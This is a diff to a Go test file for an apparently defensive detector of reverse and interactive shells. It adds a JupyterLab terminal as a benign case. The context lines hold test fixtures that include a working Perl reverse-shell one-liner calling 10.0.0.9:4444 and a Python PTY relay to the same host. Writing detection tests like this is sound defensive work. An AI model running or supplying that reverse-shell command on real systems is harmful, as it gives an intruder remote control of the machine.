@@ -231,6 +231,7 @@ func scenarios() []scenario {
 	perlLoop := proc("perl", "/usr/bin/perl", "perl", "-e", `use IO::Socket;$c=IO::Socket::INET->new("10.0.0.9:4444");while(<$c>){print $c `+"`$_`"+`}`)
 	ptyRelay := proc("python3", "/usr/bin/python3.12", "python3", "/tmp/.cache/r.py", "10.0.0.9")
 	ssmWorker := proc("ssm-session-worker", "/usr/bin/ssm-session-worker", "ssm-session-worker", "session-1")
+	jupyter := proc("jupyter-lab", "/usr/bin/python3.12", "/usr/bin/python3", "/usr/local/bin/jupyter-lab", "--ip=0.0.0.0")
 	vsServer := proc("node", "/root/.vscode-server/bin/f1e16e1e/node", "node", "/root/.vscode-server/bin/f1e16e1e/out/server-main.js")
 	vsPty := childOf(proc("node", "/root/.vscode-server/bin/f1e16e1e/node", "node", "/root/.vscode-server/bin/f1e16e1e/out/ptyHost.js"), vsServer)
 	sshdP := proc("sshd-session", "/usr/lib/openssh/sshd-session", "sshd-session: alice [priv]")
@@ -291,6 +292,8 @@ func scenarios() []scenario {
 			evs(connectEv(ssmWorker, "52.94.1.10", 443), execEv(withTTY(childOf(proc("sh", "/usr/bin/dash", "sh"), ssmWorker)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
 		scenario{"sshd checking a password with LDAP before the login shell is not", ptyShell, false,
 			evs(connectEv(sshdP, "10.0.5.5", 389), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "-bash"), sshdP)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
+		scenario{"a JupyterLab terminal after the server fetched its news is not", ptyShell, false,
+			evs(connectEv(jupyter, "151.101.0.223", 443), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "bash"), jupyter)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
 		scenario{"a VS Code server terminal is not", ptyShell, false,
 			evs(connectEv(vsServer, "13.107.5.93", 443), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "bash"), vsPty)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
 		scenario{"a relay started by hand from an SSH session still is", ptyShell, true,
